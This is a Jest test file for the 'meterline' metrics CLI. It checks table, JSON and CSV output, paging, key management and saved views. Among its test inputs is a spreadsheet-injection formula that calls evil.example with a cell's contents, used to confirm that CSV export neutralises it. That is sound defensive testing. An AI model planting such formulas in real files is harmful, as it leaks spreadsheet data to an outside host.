/** `meterline metrics`, `keys` and `mcp` against the real API: tables, JSON, CSV and pages. */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { bearer, metricsPath, NOW, startApi, type TestApi } from '../harness/api.js';
import { event } from '../harness/events.js';
import { withApiProxy } from '../harness/services.js';
import { describeTools } from './mcp.js';
import { callerOf, type MeterlineOptions, runCommand, runMeterline } from './run-command.js';

const DAY = ['metrics', '--from', '2025-10-01', '--to', '2025-10-02'];
const MONTH = ['metrics', '--month', '2025-10'];
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';

let api: TestApi;
/** The environments of accounts: with usage of one day, of several months, and with many resources. */
let acme: Record<string, string>;
let initech: Record<string, string>;
let wide: Record<string, string>;

beforeAll(async () => {
  api = await startApi();
  [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
  const used = (resourceName: string, at: string, cost: string) =>
    event({ accountId: 'initech', resourceName, at, cost });
  await api.seed([
    event({ resourceName: FORMULA, cost: '120', usage: '1234567.891' }),
    event({ at: '2025-10-01T20:00:00Z', cost: '60.5' }),
    event({ workspace: '東京', cost: '0.000000000001', usage: '0.5' }),
    ...Array.from({ length: 210 }, (_, n) =>
      event({ accountId: 'wide', resourceName: `box-${String(n).padStart(3, '0')}`, cost: '0.01' }),
    ),
    used('box', '2025-10-01T10:00:00Z', '30'),
    used('box', '2025-10-31T23:59:59.999Z', '15'),
    used('disk', '2025-10-02T00:00:00Z', '5'),
    used('box', '2025-09-30T00:00:00Z', '36'),
    used('tape', '2025-09-01T00:00:00Z', '4'),
    used('box', '2025-09-26T00:00:00Z', '0.5'),
  ]);
});
afterAll(() => api.stop());

const as = (...key: Parameters<TestApi['key']>) => callerOf(api, ...key);

async function run(args: readonly string[], env = acme, options: MeterlineOptions = {}) {
  return runCommand(args, { env, ...options });
}

/** The lines of an output, without the sparklines. */
function linesOf(stdout: string): string[] {
  return stdout.split('\n').map((line) => line.replace(/ +[·▁-█]+$/, ''));
}

describe('the table', () => {
  it('the table adds up, with shares and bars', async () => {
    expect(await run([...DAY, '--group-by', 'workspace'])).toEqual({
      code: 0,
      stderr: '',
      stdout: [
        'acme: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
        '',
        'WORKSPACE             COST   SHARE  TREND',
        'main               $180.50  >99.9%  ··········█·········▅···',
        '東京       $0.000000000001   <0.1%  ··········█·············',
        'Total              $180.50  100.0%',
        '',
      ].join('\n'),
    });
  });

  it('the table has all accounts of an operator', async () => {
    const args = [...DAY, '--all-accounts', '--group-by', 'account'];
    const { stdout } = await run(args, await as(undefined, 'operator'));
    expect(linesOf(stdout)).toEqual([
      'All accounts: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
      '',
      'ACCOUNT     COST   SHARE  TREND',
      'acme     $180.50   84.9%',
      'initech   $30.00   14.1%',
      'wide       $2.10    1.0%',
      'Total    $212.60  100.0%',
      '',
    ]);
    expect((await run(args)).stdout).not.toContain('wide');
  });

  it('the table shows that a resource is in several workspaces, to an admin only', async () => {
    const args = [...DAY, '--group-by', 'resource_name', '--resource-name', 'box'];
    const [seen, hidden] = [await run(args), await run(args, await as('acme', 'member'))];
    expect(seen.stdout).toMatch(/^several workspaces +sandbox +box +\$60\.50/m);
    expect(hidden.stdout).toMatch(/^sandbox +box +\$60\.50/m);
  });

  it('the table has usage with its unit, and all digits with --exact', async () => {
    const { stdout } = await run([...DAY, '--group-by', 'billing_dimension,workspace', '--exact']);
    expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +>99\.9% +1,234,568\.891 GB-s /m);
    expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
  });

  it('the table has one row for the groups on other pages, or reads all pages with --all', async () => {
    const args = [...DAY, '--group-by', 'resource_name'];
    const [first, all] = await Promise.all([run(args, wide), run([...args, '--all'], wide)]);
    expect(first.stderr).toBe('Showing the first 100 groups; use --all for all groups.\n');
    expect(first.stdout).toMatch(/^\(other groups\) .* \$1\.10 +52\.4%$/m);
    expect(first.stdout).toMatch(/^Total .* \$2\.10 +100\.0%$/m);
    expect(all.stderr).toBe('Read 210 groups on 3 pages.\n');
    expect(all.stdout.match(/^main .*box-\d{3} /gm)).toHaveLength(210);
    expect(all.stdout).not.toContain('other groups');
  });

  it('the table of a month has the previous month beside it with --compare', async () => {
    const { stdout, stderr } = await run([...MONTH, '--group-by', 'resource_name', '--compare'], initech);
    expect(stderr).toBe('');
    expect(linesOf(stdout)).toEqual([
      'initech: 2025-10-01T00:00:00Z to 2025-11-01T00:00:00Z (UTC), daily',
      'Previous period: 2025-09-01T00:00:00Z to 2025-10-01T00:00:00Z, 1 month earlier',
      '',
      'WORKSPACE       TYPE     RESOURCE    COST   SHARE  PREVIOUS   CHANGE  TREND',
      'main            sandbox  box       $45.00   90.0%    $36.50   +23.3%',
      'main            sandbox  disk       $5.00   10.0%     $0.00      new',
      '(other groups)                      $0.00    0.0%     $4.00  -100.0%',
      'Total                              $50.00  100.0%    $40.50   +23.5%',
      '',
    ]);
  });

  it.each([[[]], [['--csv']]])(
    '--compare asks for the shown groups alone, also when one is new, with %j',
    async (form) => {
      const accountId = `grown${form.join('')}`;
      const day = (resourceName: string, at: string, cost: string) => event({ accountId, resourceName, at, cost });
      const before = Array.from({ length: 210 }, (_, n) => day(`old-${n}`, '2025-09-30T00:00:00Z', String(n + 1)));
      const now = [day('new', '2025-10-01T00:00:00Z', '9'), day('old-0', '2025-10-01T00:00:00Z', '2')];
      await api.seed([...before, ...now]);
      const sent: string[] = [];
      const note = async (path: string) => {
        if (path.includes('/metrics?')) sent.push(path);
        return undefined;
      };
      const env = await as(accountId);
      const args = [...MONTH, '--group-by', 'resource_name', '--compare', '--limit', '2', ...form];
      const { stdout } = await withApiProxy(api.url, note, (url) => run(args, { ...env, METERLINE_API_URL: url }));
      // The page, the total of the previous period, and the two groups in it.
      expect(sent).toHaveLength(3);
      if (form.length > 0) expect(stdout).toMatch(/,new,.*,9,.*,0,9,\r\n.*,old-0,.*,2,.*,1,1,100\r\n$/);
      else
        expect(stdout).toMatch(
          /new +\$9\.00 .* \$0\.00 +new .*\n.* old-0 +\$2\.00 .* \$1\.00 +\+100\.0% .*\n\(other groups\) .* \$22,154\.00 /,
        );
    },
  );

  it('the table reports that nothing was used', async () => {
    const { code, stdout } = await run(['metrics', '--since', '1h', '--group-by', 'workspace']);
    expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('No usage') });
  });

  const FILTERS = 'meterline: if you expected usage, check the spelling of the filter values\n';

  it.each([
    [['metrics', '--month', '2025-10', '--account', 'initec'], '; did you mean initech?'],
    [['metrics', '--month', '2025-10', '--account', 'Initech', '--csv'], '; did you mean initech?'],
    [['metrics', '--month', '2025-10', '--account', 'umbrella', '--json', '--compare'], ''],
    [['explain', '--month', '2025-10', '--account', 'initec'], '; did you mean initech?'],
    [['resource-types', '--month', '2025-10', '--account', 'initec'], '; did you mean initech?'],
  ])('%j of an operator warns that the account does not exist', async (args, hint) => {
    const { code, stderr } = await run(args, await as(undefined, 'operator'));
    expect([code, stderr]).toEqual([0, `meterline: there is no account ${args[4]}${hint || '.'}\n`]);
  });

  it.each(['metrics', 'explain', 'resource-types'])(
    '%s prints an empty result without a hint if the accounts cannot be read',
    async (command) => {
      const interfere = async (path: string) =>
        path.startsWith('/v0/accounts?') ? { status: 400, body: {} } : undefined;
      const env = await as(undefined, 'operator');
      const result = await withApiProxy(api.url, interfere, (url) =>
        run([command, '--month', '2025-10', '--account', 'initec'], { ...env, METERLINE_API_URL: url }),
      );
      expect(result).toMatchObject({ code: 0, stdout: expect.stringMatching(/No |Total/), stderr: '' });
    },
  );

  it('an export of an account that does not exist warns as well', async () => {
    const args = ['export', 'focus', '--month', '2025-10', '--account', 'initec'];
    const { stderr } = await run(args, await as(undefined, 'operator'));
    expect(stderr).toContain('meterline: there is no account initec; did you mean initech?\n');
  });

  it('a filter that matches nothing causes a hint at its spelling, and other empty results cause none', async () => {
    expect((await run([...DAY, '--workspace', 'mian'])).stderr).toBe(FILTERS);
    expect((await run(['resource-types', ...DAY.slice(1), '--resource-name', 'bx'])).stderr).toBe(FILTERS);
    expect((await run(['metrics', '--from', '2025-01-01', '--to', '2025-01-02'])).stderr).toBe('');
    expect((await run([...DAY, '--workspace', 'main'])).stderr).toBe('');
  });

  it('--watch requests again until Ctrl-C, and prints no control characters without a terminal', async () => {
    const interruptAt = /metrics\?[\s\S]*metrics\?.*\n/;
    const watched = await runMeterline([...MONTH, '--watch', '1', '--debug'], { env: initech, interruptAt });
    expect(watched.code).toBe(0);
    expect(watched.stdout.match(/^Total +\$50\.00/gm)?.length).toBeGreaterThanOrEqual(1);
    expect(watched.stdout).not.toContain('\u001b');
  });

  it('--debug prints each request with its duration and request id, and never the key', async () => {
    const { stdout, stderr } = await run([...MONTH, '--debug', '--json'], initech);
    const [places, account, metrics] = stderr.trimEnd().split('\n');
    expect(places).toMatch(
      /^meterline: API http:\S+ \(environment: METERLINE_API_URL\), key mlk_\w{6}… \(environment: METERLINE_API_KEY\)$/,
    );
    expect(account).toMatch(/^meterline: GET \/v0\/accounts\?\S+: 200 in /);
    const said =
      /^meterline: GET (\S+): 200 in [\d,]+ ms \([\d,]+ ms after the start\), ([\d,]+) bytes, request ([0-9a-f-]{36})$/;
    const [, path, bytes, requestId] = said.exec(metrics ?? '') ?? [];
    expect(path).toBe(
      '/v0/accounts/initech/metrics?resolution=daily&startTime=2025-10-01T00%3A00%3A00Z&endTime=2025-11-01T00%3A00%3A00Z',
    );
    expect(bytes).toBe((Buffer.byteLength(stdout) - 1).toLocaleString('en-US'));
    expect(api.log).toContainEqual(expect.objectContaining({ requestId }));
    expect(stdout + stderr).not.toContain(initech['METERLINE_API_KEY']);
  });
});

describe('JSON and CSV', () => {
  it('--json prints the response of the API, and with --all one page per line', async () => {
    const query = { startTime: '2025-10-01T00:00:00Z', endTime: '2025-10-02T00:00:00Z' };
    const { text } = await api.request(metricsPath('acme', query), bearer(acme['METERLINE_API_KEY'] ?? ''));
    expect((await run([...DAY, '--json'])).stdout).toBe(`${text}\n`);
    const { stdout } = await run([...DAY, '--group-by', 'resource_name', '--limit', '1', '--all', '--json']);
    const pages = stdout.trimEnd().split('\n');
    expect(pages.map((page) => JSON.parse(page).data[0].resourceName)).toEqual([FORMULA, 'box']);
  });

  it('--json --compare prints the previous period in a second line, whole weeks earlier', async () => {
    const { stdout } = await run([...MONTH, '--compare', 'period', '--json'], initech);
    const responses = stdout.trimEnd().split('\n');
    const found = responses.map((line) => JSON.parse(line));
    expect(found.map(({ startTime, endTime, summary }) => [startTime, endTime, summary.totalCost])).toEqual([
      ['2025-10-01T00:00:00Z', '2025-11-01T00:00:00Z', 50],
      ['2025-08-27T00:00:00Z', '2025-09-27T00:00:00Z', 4.5],
    ]);
  });

  it.each<[string, 'acme' | 'initech', string[], string[]]>([
    [
      'exact amounts, and names that are no formulas',
      'acme',
      [...DAY, '--group-by', 'resource_name,billing_dimension'],
      [
        'workspace,resourceType,resourceName,billingDimension,startTime,endTime,costUsd,usage,unit,sharePercent',
        `main,sandbox,"'=HYPERLINK(""http://evil.example/?""&A1,""total"")",sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,120,1234567.891,gbs,66.481994`,
        ',sandbox,box,sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,60.500000000001,1.5,gbs,33.518006',
      ],
    ],
    [
      'with --compare --all the groups of the previous period alone',
      'initech',
      [...MONTH, '--group-by', 'resource_name', '--filter', 'resourceName!=box', '--compare', '--all'],
      [
        'workspace,resourceType,resourceName,startTime,endTime,costUsd,sharePercent,previousCostUsd,changeUsd,changePercent',
        'main,sandbox,disk,2025-10-01T00:00:00Z,2025-11-01T00:00:00Z,5,100,0,5,',
        'main,sandbox,tape,2025-10-01T00:00:00Z,2025-11-01T00:00:00Z,0,0,4,-4,-100',
      ],
    ],
  ])('--csv prints %s, as they are or for a spreadsheet', async (_what, account, args, lines) => {
    const text = `${lines.join('\r\n')}\r\n`;
    const printed = async (form: string) => (await run([...args, form], account === 'acme' ? acme : initech)).stdout;
    expect(await printed('--csv=excel')).toBe(`\uFEFF${text}`);
    expect(await printed('--csv')).toBe(text.replaceAll(`"'=`, '"='));
  });
});

describe('pages that change while they are read', () => {
  /** Reads an account of its own, two groups at a time; calls `before` before each request with a cursor, the first being 1. */
  async function runBeside(accountId: string, before: (withCursor: number) => void, form: readonly string[]) {
    await api.seed(
      [9, 7, 5, 3, 1].map((cost) => event({ accountId, resourceName: `box-${cost}`, cost: String(cost) })),
    );
    let withCursor = 0;
    const interfere = async (path: string) => {
      if (path.includes('cursor=')) before(++withCursor);
      return undefined;
    };
    const env = await as(accountId);
    const args = [...MONTH, '--group-by', 'resource_name', '--limit', '2', '--all', ...form];
    const result = await withApiProxy(api.url, interfere, (url) => run(args, { ...env, METERLINE_API_URL: url }));
    api.clock.now = NOW;
    return result;
  }
  const DAY_MS = 25 * 3_600_000;

  it.each([[[]], [['--json']], [['--csv']]])(
    'pages that change are read again before anything is printed, with %j',
    async (form) => {
      const expire = (withCursor: number) => {
        api.clock.now = withCursor === 2 ? new Date(NOW.getTime() + DAY_MS) : NOW;
      };
      const { code, stdout, stderr } = await runBeside(`late${form}`, expire, form);
      // Each group is printed once, in whatever form.
      expect([code, stdout.match(/box-\d/g)?.sort()]).toEqual([0, ['box-1', 'box-3', 'box-5', 'box-7', 'box-9']]);
      expect(stderr).toBe(
        'Read 4 groups on 2 pages.\nThe response changed while its pages were read; reading it again.\nRead 5 groups on 3 pages.\n',
      );
    },
  );

  it('pages that change forever end in an error, and nothing is printed', async () => {
    const expire = () => {
      api.clock.now = new Date(api.clock.now.getTime() + DAY_MS);
    };
    expect(await runBeside('never', expire, ['--json'])).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringContaining('The data changed between pages: run the command again'),
    });
  });
});

describe('keys with a login', () => {
  const keys = (env: Record<string, string>, ...args: string[]) => run(['keys', ...args], env);

  it('keys create, list and revoke ask the API: an admin for its account, a provisioner for any', async () => {
    const admin = await as('keys-of-admin');
    const created = JSON.parse(
      (await keys(admin, 'create', '--role', 'member', '--client', 'reports', '--json')).stdout,
    );
    expect(created).toMatchObject({ account: 'keys-of-admin', role: 'member', clientId: 'reports' });
    const provisioner = await as(undefined, 'provisioner');
    const named = ['create', '--account', 'new-tenant', '--role', 'emitter', '--name', 'New Tenant', '--json'];
    const { keyId, key } = JSON.parse((await keys(provisioner, ...named)).stdout);
    expect(await api.keys.authenticate(key, NOW)).toMatchObject({ account: 'new-tenant', role: 'emitter' });
    expect(await api.keys.accounts.find('new-tenant')).toMatchObject({ name: 'New Tenant' });
    const listed = async (env: Record<string, string>, account: string) =>
      JSON.parse((await keys(env, 'list', '--account', account, '--json')).stdout);
    const ids = (await listed(admin, 'keys-of-admin')).map((each: { keyId: string }) => each.keyId);
    expect([ids.length, ids.includes(created.keyId)]).toEqual([2, true]);
    expect(await listed(provisioner, 'new-tenant')).toMatchObject([{ keyId, revokedAt: null, expiresAt: null }]);
    const revoke = ['revoke', keyId, '--account', 'new-tenant', '--json'];
    const revoked = { keyId, revokedAt: expect.any(String) };
    expect(JSON.parse((await keys(provisioner, ...revoke)).stdout)).toEqual(revoked);
    expect(await listed(provisioner, 'new-tenant')).toMatchObject([{ keyId, revokedAt: NOW.toISOString() }]);
    expect(JSON.parse((await keys(provisioner, ...revoke)).stdout)).toEqual({ keyId, revokedAt: NOW.toISOString() });
    const stderr = expect.stringMatching(/no key nope of keys-of-admin; .*; keys for all accounts need --redis-url\n$/);
    expect(await keys(admin, 'revoke', 'nope')).toMatchObject({ code: 1, stderr });
  });

  it('keys without the required role fail with the message of the API', async () => {
    const foreign = await keys(acme, 'create', '--account', 'globex', '--role', 'member');
    expect(foreign).toMatchObject({
      code: 3,
      stderr: expect.stringMatching(/Only an admin of the account.*\nOperators can manage keys in Redis/s),
    });
    const naming = await keys(acme, 'create', '--role', 'member', '--name', 'ACME');
    expect(naming).toMatchObject({ code: 3, stderr: expect.stringContaining('Only a provisioner may name accounts') });
  });
});

describe('meterline mcp', () => describeTools(() => api));

describe('--view', () => {
  const [ACCOUNT, QUERY] = [
    'initech',
    'from=2025-10-01T00:00:00Z&to=2025-11-01T00:00:00Z&group=resource_name&not-name=disk',
  ];
  const csvOf = async (...args: string[]) => {
    const { code, stdout, stderr } = await run(['metrics', ...args, '--csv'], initech);
    expect([code, stderr]).toEqual([0, '']);
    return stdout;
  };
  const flagsOf = (month: string) => [
    '--month',
    month,
    '--group-by',
    'resource_name',
    '--filter',
    'resourceName!=disk',
  ];

  it('a saved view prints what its flags would print, and other flags replace its parts', async () => {
    await api.dependencies.views.save(ACCOUNT, 'of October', QUERY, NOW);
    const view = ['--view', 'of October'];
    const expected = await csvOf(...flagsOf('2025-10'));
    expect(expected).toContain('box');
    expect(await csvOf(...view)).toBe(expected);
    expect(await csvOf(...view, '--month', '2025-09')).toBe(await csvOf(...flagsOf('2025-09')));
    expect(await csvOf(...view, '--group-by', 'billing_dimension')).toBe(
      await csvOf('--month', '2025-10', '--group-by', 'billing_dimension', '--filter', 'resourceName!=disk'),
    );
  });

  it.each(['24h', '7d', '30d', '90d', 'week', 'month', 'last-month', 'quarter', 'year', '12m'])(
    'a view of the period %s opens, and compares',
    async (period) => {
      await api.dependencies.views.save(ACCOUNT, 'period', `period=${period}&compare=period`, NOW);
      const { code, stderr } = await run(['metrics', '--view', 'period'], initech);
      expect([code, stderr]).toEqual([0, '']);
    },
  );

  it('a view of a month that compares with the previous period compares with the previous month, as on the page', async () => {
    const query = 'from=2025-10-01T00:00:00Z&to=2025-11-01T00:00:00Z&compare=period';
    await api.dependencies.views.save(ACCOUNT, 'a month', query, NOW);
    const expected = await csvOf('--month', '2025-10', '--group-by', 'resource_type', '--compare');
    expect(await csvOf('--view', 'a month')).toBe(expected);
    expect(await csvOf('--view', 'a month', '--compare', 'period')).not.toBe(expected);
  });

  it('a view whose window is too long for its resolution has the automatic one, as on the page', async () => {
    await api.dependencies.views.save(ACCOUNT, 'hours', 'period=month&resolution=hourly', NOW);
    expect((await run(['metrics', '--view', 'hours'], initech)).code).toBe(0);
  });

  it.each([
    [['--view', 'x', '--all-accounts'], "option '--view <name>' cannot be used with option '--all-accounts'"],
    [['--view', '..'], 'It must be the name of a saved view.'],
    [['--view', 'compared', '--csv', '--series'], '--series and --compare cannot be combined'],
  ])('meterline metrics %j is wrong usage', async (args, message) => {
    await api.dependencies.views.save(ACCOUNT, 'compared', 'compare=period', NOW);
    const { code, stderr } = await run(['metrics', ...args], initech);
    expect(code).toBe(2);
    expect(stderr).toContain(message);
  });

  it('an unknown view is an error that lists the views', async () => {
    const { code, stderr } = await run(['metrics', '--view', 'nope'], initech);
    expect(code).toBe(1);
    expect(stderr).toContain('account initech has no saved view "nope" that you may see; its views: "');
  });
});
